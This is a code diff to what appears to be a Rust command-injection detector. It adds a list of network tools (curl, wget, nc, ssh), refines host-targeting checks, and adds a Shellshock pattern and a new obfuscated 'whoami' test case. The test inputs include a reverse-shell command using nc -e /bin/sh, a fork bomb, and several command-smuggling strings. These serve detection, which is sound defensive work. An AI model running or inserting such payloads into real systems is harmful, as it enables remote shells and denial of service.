@@ -135,7 +135,7 @@ fn judge(
     }
     let common = found.command.is_common();
     let argued = matches!(found.argument, Flag | Technical);
-    let aims = argued && aims(place.text, found.end);
+    let aims = argued && aims(place.text, found);
     let (code, bare, in_sentence): (_, u16, u16) = match found.mark {
         Mark::Separator => {
             let (bare, in_sentence) = match (common, found.argument) {
@@ -228,9 +228,25 @@ fn is_quoted(text: &[u8], found: &Invocation) -> bool {
     prose >= 3 || (matches!(before, [.., b' ' | b'(']) && !found.bare) || before.starts_with(b"- ")
 }
 
+/// Commands that take a host.
+const NETWORK: [&[u8]; 12] = [
+    b"ping",
+    b"ping6",
+    b"nslookup",
+    b"curl",
+    b"wget",
+    b"telnet",
+    b"nc",
+    b"ncat",
+    b"ssh",
+    b"ftp",
+    b"whois",
+    b"tracert",
+];
+
 /// What a command is pointed at in an attack: files of the system, hosts,
 /// devices, another shell. Reads as far as an argument reaches.
-fn aims(text: &[u8], end: usize) -> bool {
+fn aims(text: &[u8], found: &Invocation) -> bool {
     const TARGETS: [&[u8]; 22] = [
         b"/etc",
         b"/proc",
@@ -255,6 +271,7 @@ fn aims(text: &[u8], end: usize) -> bool {
         b"/c ",
         b"%\\",
     ];
+    let end = found.end;
     let rest = text
         .get(end..end.saturating_add(80).min(text.len()))
         .unwrap_or_default();
@@ -267,6 +284,14 @@ fn aims(text: &[u8], end: usize) -> bool {
         && word
             .iter()
             .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'));
+    // `tclsh x.tcl` runs a file of its own, `ping 127.0.0.1 works` is a sentence
+    let name = text.get(found.start..end).unwrap_or_default();
+    let plain = blank
+        .split(|b| is_space(*b))
+        .filter(|w| w.len() > 1 && w.iter().all(u8::is_ascii_alphabetic))
+        .count();
+    let taken = NETWORK.iter().any(|command| name.ends_with(command));
+    let host = host && (found.mark != Mark::Start || (taken && plain <= 1));
     let number = !word.is_empty() && word.iter().all(u8::is_ascii_digit) && blank.len() <= 4;
     if word == b"/"
         || number
@@ -282,7 +307,8 @@ fn aims(text: &[u8], end: usize) -> bool {
 
 /// Things that are written for no other purpose: needle, code, belief in a
 /// short value and in a text.
-const IDIOMS: [(&[u8], &str, u16, u16); 13] = [
+const IDIOMS: [(&[u8], &str, u16, u16); 14] = [
+    (b"() { :;", "shield.rce.shellshock", 9000, 4500),
     (b"() {", "shield.rce.shellshock", 9500, 3000),
     (b"(){:;}", "shield.rce.shellshock", 9800, 5000),
     (b"${ifs", "shield.rce.substitution", 9300, 4000),
@@ -392,6 +418,7 @@ mod tests {
             ";a=wh;b=oami;$a$b",
             "x;$'\\x69\\x64'",
             "who`echo am`i",
+            "who$(echo am)i",
             "cat${PATH:0:1}etc",
             "f(){ f|f& };f",
             "nc -e /bin/sh 10.0.0.1 4242",
